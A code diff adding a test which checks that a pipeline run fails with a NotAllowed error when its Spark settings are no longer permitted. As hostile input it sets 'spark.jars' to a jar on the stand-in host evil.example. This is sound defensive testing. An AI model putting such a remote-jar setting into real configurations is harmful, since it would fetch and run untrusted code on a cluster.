@@ -208,3 +208,17 @@ def test_deadlines_and_callbacks_fire_once(stack: Installation) -> None:
         ),
         "the far ones were met",
     )
+
+
+def test_a_run_whose_settings_are_allowed_no_more_fails_before_it_has_a_driver(installation: Installation) -> None:
+    """They were allowed when the pipeline was applied; the run-starter is the one that would load the code."""
+    installation.start("backfill-planner", RETROFILL_SPARK_CONF_ALLOW='["*"]')
+    installation.apply(daily(spark_conf={"spark.jars": "https://evil.example/x.jar"}))
+    installation.start("run-starter", RETROFILL_DRIVER_SLOTS="1")
+    id = installation.request("p", "2020-01-01", "2020-01-01")
+    assert installation.wait_state(id, "succeeded", "failed") == "failed"
+    failed = [e.body for e in installation.events(Topic.RUN_EVENTS) if e.key == id and e.body["type"] == "RunFailed"]
+    (error,) = [body["error"] for body in failed]
+    assert error["type"] == "NotAllowed"
+    assert "'spark.jars'" in error["message"] and "RETROFILL_SPARK_CONF_ALLOW" in error["message"]
+    assert installation.query("SELECT attempt, state FROM run") == [{"attempt": 1, "state": "failed"}]
